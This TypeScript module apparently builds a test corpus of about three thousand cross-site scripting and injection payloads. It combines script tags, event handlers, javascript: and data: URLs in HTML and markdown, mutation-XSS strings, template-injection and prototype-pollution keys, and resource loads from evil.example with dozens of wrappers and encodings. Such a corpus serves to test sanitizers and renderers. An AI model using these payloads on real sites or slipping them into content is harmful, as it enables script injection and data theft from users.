/** Texts that would run a script or fetch something if they were rendered as markup. */

const RUN = 'top.pwned=(top.pwned||0)+1'
const OUT = 'http://evil.example/'

const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`, `<img src=x onerror="${RUN}">`, `<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="javascript:${RUN}"></iframe>`,
  `<body onload="${RUN}">`, `<details open ontoggle="${RUN}">x</details>`, `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`, `<audio src=x onerror="${RUN}">`, `<marquee onstart="${RUN}">x</marquee>`,
  `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`, `<math href="javascript:${RUN}">x</math>`,
  `<base href="${OUT}">`, `<meta http-equiv="refresh" content="0;url=${OUT}">`, `<link rel=stylesheet href="${OUT}a.css">`,
  `<style>@import url(${OUT}a.css);*{background:url(${OUT}b)}</style>`, `<img src="${OUT}i.png">`, `<img srcset="${OUT}j.png 1x">`,
  `<picture><source srcset="${OUT}k.png"><img></picture>`, `<svg><image href="${OUT}l.svg"></image></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`,
  `<x contenteditable onblur="${RUN}" tabindex=1>x</x>`, `<button popovertarget=x onclick="${RUN}">x</button>`,
  `![x](${OUT}m.png)`, `![x](javascript:${RUN})`, `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](java\tscript:${RUN})`,
  `[x](&#106;avascript:${RUN})`, `[x](data:text/html,<script>${RUN}</script>)`, `[x](vbscript:${RUN})`, `[x](file:///etc/passwd)`,
  `<javascript:${RUN}>`, `[x]: javascript:${RUN}\n\n[x]`, `[x](http://evil.example "onmouseover=${RUN}")`,
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `__proto__`, `constructor`,
  `</script><script>${RUN}</script>`, `\u003cscript\u003e${RUN}\u003c/script\u003e`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`, `\uff1cscript\uff1e${RUN}`, `\u001b]8;;javascript:${RUN}\u0007x\u001b]8;;\u0007`,
  '```html\n<script>' + RUN + '</script>\n```', '```mermaid\ngraph TD; A["<img src=x onerror=' + RUN + '>"]\n```',
  `$$\\href{javascript:${RUN}}{x}$$`, `<a href="${OUT}" ping="${OUT}p">x</a>`, `<img src="data:image/svg+xml,<svg onload='${RUN}'/>">`,
] // prettier-ignore

const AROUND: readonly ((text: string) => string)[] = [
  (x) => x, (x) => `"${x}`, (x) => `'${x}`, (x) => `">${x}`, (x) => `'>${x}`, (x) => `</textarea>${x}`, (x) => `</title>${x}`,
  (x) => `-->${x}`, (x) => `<!--${x}`, (x) => `]]>${x}`, (x) => `<![CDATA[${x}]]>`, (x) => `# ${x}`, (x) => `- ${x}`, (x) => `> ${x}`,
  (x) => `1. ${x}`, (x) => `**${x}**`, (x) => `_${x}_`, (x) => `~~${x}~~`, (x) => `\`${x}\``, (x) => `\`\`\`\n${x}\n\`\`\``,
  (x) => `| a | b |\n|---|---|\n| ${x.replaceAll('\n', ' ')} | y |`, (x) => `[${x}](http://example.com)`, (x) => `text ${x} text`,
  (x) => `\n\n${x}\n\n`, (x) => `    ${x}`, (x) => x.toUpperCase().replaceAll('TOP.PWNED', 'top.pwned'), (x) => x.replaceAll(' ', '/'),
  (x) => x.replaceAll(' ', '\n'), (x) => x.replaceAll('"', ''), (x) => x.replaceAll('<', '<<'), (x) => x.replaceAll('>', ' >'),
  (x) => encodeURIComponent(x), (x) => x.replaceAll('<', '%3C'), (x) => `${x}${x}`, (x) => `<div>${x}</div>`, (x) => `<p>${x}`,
  (x) => `<table><tr><td>${x}</td></tr></table>`, (x) => `<pre><code>${x}</code></pre>`, (x) => `<svg>${x}</svg>`, (x) => `<math>${x}</math>`,
  (x) => `<details><summary>${x}</summary></details>`, (x) => `[^1]: ${x}\n\n[^1]`, (x) => `https://example.com/${x}`, (x) => `mailto:${x}`,
  (x) => `&lt;/p&gt;${x}`, (x) => `${x}<!--`, (x) => `<${x}>`, (x) => `\\${x}`, (x) => `<br>${x}`, (x) => `* [ ] ${x}`, (x) => `\u202e${x}`, (x) => `\ufeff${x}`, (x) => `${x}\u0000`, (x) => JSON.stringify(x), (x) => `<a title="${x}">`, (x) => x.padStart(400, 'A'),
] // prettier-ignore

/** Three thousand distinct payloads, mixed. */
export const PAYLOADS: readonly string[] = [
  ...new Set(AROUND.flatMap((around) => VECTORS.map((vector) => around(vector)))),
]
